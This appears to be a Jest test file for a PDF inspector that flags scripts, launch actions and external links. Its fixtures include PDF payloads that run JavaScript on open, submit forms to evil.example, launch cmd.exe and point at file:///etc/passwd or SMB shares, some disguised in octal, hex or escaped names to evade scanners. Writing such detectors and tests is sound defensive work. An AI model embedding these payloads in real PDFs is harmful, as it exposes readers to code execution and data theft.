/** @jest-environment node */
import { type PdfParts, packedPdfOf, plainPdfOf } from '../testing/packed-pdf.ts';
import { inspectPdfs } from '../testing/pdf-inspector.ts';
import { findActions } from './pdf-actions.ts';

const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const goTo = '/S/GoTo/D[3 0 R/Fit]';
const link = (action: string) => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A${action}>>]`;
const field = (more: string) => ({
  catalog: '/AcroForm<</Fields[10 0 R]>>',
  page: '/Annots[10 0 R]',
  objects: [`<</Type/Annot/Subtype/Widget/FT/Tx/T(name)/Rect[0 0 99 20]${more}>>`],
});

const active: Record<string, PdfParts> = {
  'a script at its opening': { catalog: `/OpenAction${script}` },
  'a script in an object of its own': { catalog: '/OpenAction 10 0 R', objects: [script] },
  'a script behind another action': { catalog: `/OpenAction<<${goTo}/Next${script}>>` },
  'a script behind two actions of a list': {
    catalog: `/OpenAction<<${goTo}/Next[<<${goTo}>><<${goTo}/Next[<<${goTo}/Next 10 0 R>>]>>]>>`,
    objects: [script],
  },
  'a script behind a link’s action': { page: link(`<<${goTo}/Next${script}>>`) },
  'a script whose name stands in another object': {
    catalog: '/OpenAction<</S 10 0 R/JS(x)>>',
    objects: ['/J#61vaScr#69pt'],
  },
  'a script of the document': { catalog: `/Names<</JavaScript<</Names[(x)${script}]>>>>` },
  'a script at a page': { page: `/AA<</O${script}>>` },
  'a script at the end of the document': { catalog: `/AA<</WC${script}>>` },
  'a script at a link’s own events': {
    page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/AA<</E${script}>>>>]`,
  },
  'a script at a field': field(`/AA<</K${script}>>`),
  'a form that is sent': field('/A<</S/SubmitForm/F(https://evil.example/)>>'),
  'a form that is filled in from a file': field('/A<</S/ImportData/F(a.fdf)>>'),
  'a form of XML': { catalog: '/AcroForm<</Fields[]/XFA[(datasets)10 0 R]>>', objects: ['(x)'] },
  'a link into another document': { page: link('<</S/GoToR/F(//evil.example/a.pdf)/D[0/Fit]>>') },
  'a link into an embedded document': { page: link('<</S/GoToE/T<</R/C/N(a.pdf)>>/D[0/Fit]>>') },
  'a program to start': { page: link('<</S/Launch/F(cmd.exe)>>') },
  'a program to start behind two links': {
    page: link(`<</S/URI/URI(https://a.example)/Next[<<${goTo}/Next<</S/Launch/Win<</F(cmd)>>>>>>]>>`),
  },
  'a link to a file': { page: link('<</S/URI/URI(file:///etc/passwd)>>') },
  'a link to a file whose address is written in numbers': {
    page: link('<</S/URI/URI(\\146\\151l\\\ne:///etc/passwd)>>'),
  },
  'a link to a file whose address is written in hexadecimal digits': {
    page: link('<</S/URI/URI<FEFF00660069006C0065003A002F002F002F0078>>>'),
  },
  'a link to a file whose address is an object of its own': {
    page: link('<</S/URI/URI 10 0 R>>'),
    objects: ['(\\\\\\\\evil.example\\\\share)'],
  },
  'links that are relative to a file': { catalog: '/URI<</Base(file:///C:/)>>' },
  'a link of the outline to a file': {
    catalog: '/Outlines<</First 10 0 R/Last 10 0 R/Count 1>>',
    objects: ['<</Title(x)/Parent 1 0 R/A<</S/URI/URI(smb://evil.example/x)>>>>'],
  },
  'an embedded file': { catalog: '/Names<</EmbeddedFiles<</Names[(x)10 0 R]>>>>', objects: ['<<>>'] },
  'a file at a note': {
    page: '/Annots[<</Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/F(a.exe)>>>>]',
  },
  'a film with a script': { page: link('<</S/Rendition/OP 0/JS(x)>>') },
};

const clean: Record<string, PdfParts> = {
  nothing: {},
  'links into the web, to a mailbox and a telephone': {
    page: `/Annots[${[
      'https://goldbraun.example/?a=(1)',
      'mailto:a@b.de',
      'TEL:089',
      'www.goldbraun.example',
      '#seite-2',
    ]
      .map((uri) => `<</Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(${uri})>>>>`)
      .join('')}]`,
  },
  'a link whose address is an object of its own': {
    page: link('<</S/URI/URI 10 0 R>>'),
    objects: ['(https://goldbraun.example)', '(Flurst\\374ck 12: Lageplan)'],
  },
  'links to its own pages, an outline and a view to open with': {
    catalog: `/OpenAction<<${goTo}/Next<</S/Named/N/NextPage>>>>/Dests<</a[3 0 R/Fit]>>/PageMode/UseOutlines`,
    page: link(`<<${goTo}>>`),
  },
  'a form with a button that empties it': field('/DA(/Helv 12 Tf)/A<</S/ResetForm>>'),
  'the address of the file that it was made of, as a title, and scripts as its subject': {
    catalog: '/Info 10 0 R/Lang(de)',
    objects: [
      '<</Title(file:///C:/Users/a/plan.html)/Subject(about /JavaScript /Launch)/Created(D:20261120)>>',
    ],
  },
};

describe.each([
  ['in plain text', (parts: PdfParts) => plainPdfOf(parts)],
  ['in an object stream', (parts: PdfParts) => packedPdfOf(parts)],
  [
    'in an object stream that writes its names otherwise',
    (parts: PdfParts) => packedPdfOf({ ...parts, packing: '/Type/Obj#53tm/Filter[/Fl]' }),
  ],
])('a PDF %s', (_how, make) => {
  it('is marked for everything that does something by itself or leads to other files', async () => {
    const files = await Promise.all(Object.values(active).map(async (parts) => make(parts)));
    const found = await inspectPdfs(files);
    expect(Object.fromEntries(Object.keys(active).map((what, at) => [what, found[at]]))).toEqual(
      Object.fromEntries(Object.keys(active).map((what) => [what, { remarks: ['active'] }])),
    );
  });

  it('is not marked for what people write', async () => {
    const files = await Promise.all(Object.values(clean).map(async (parts) => make(parts)));
    const found = await inspectPdfs(files);
    expect(Object.fromEntries(Object.keys(clean).map((what, at) => [what, found[at]]))).toEqual(
      Object.fromEntries(Object.keys(clean).map((what) => [what, { remarks: [] }])),
    );
  });
});

describe('a PDF whose objects are packed as no program does it', () => {
  it('is unchecked, though a viewer opens it', async () => {
    const hidden = { page: link('<</S/SubmitForm/F(https://evil.example/)>>') };
    const hex = await packedPdfOf({
      ...hidden,
      packing: '/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]',
      pack: (packed) => Buffer.from(`${packed.toString('hex')}>`),
    });
    const elsewhere = await packedPdfOf({ ...hidden, packing: '/Type/ObjStm/Filter 8 0 R' });
    const found = await inspectPdfs([hex, elsewhere]);
    expect(found[0]).toEqual({ remarks: ['unchecked'] });
    // The filter is nowhere, so it can't be opened either.
    expect(found[1]).toEqual({ fault: 'attachment_damaged' });
  });
});

describe('a PDF whose objects overlap', () => {
  const documentOf = (beginning: string, repeats: number) =>
    Buffer.concat([plainPdfOf({}), Buffer.from(`\n%${beginning.repeat(repeats)}\n%%EOF\n`)]);

  it.each(['obj(', 'obj<', 'obj%', 'obj/N/First/ObjStm stream '])(
    'as in %s… is not read again and again to its end, but unchecked',
    (beginning) => {
      expect(findActions(documentOf(beginning, 8_000))).toEqual(['unchecked']);
    },
  );

  it('but where one ends as the next begins is read once', () => {
    const cpuMs = (repeats: number) => {
      const bytes = documentOf('1 0 obj[', repeats);
      const begun = process.cpuUsage();
      expect(findActions(bytes)).toEqual([]);
      const { user, system } = process.cpuUsage(begun);
      return (user + system) / 1_000;
    };
    const few = cpuMs(2_000);
    // Read to its end from each of them, sixteen times as many would take 256 times as long.
    expect(cpuMs(32_000)).toBeLessThan(64 * Math.max(few, 1));
  });
});
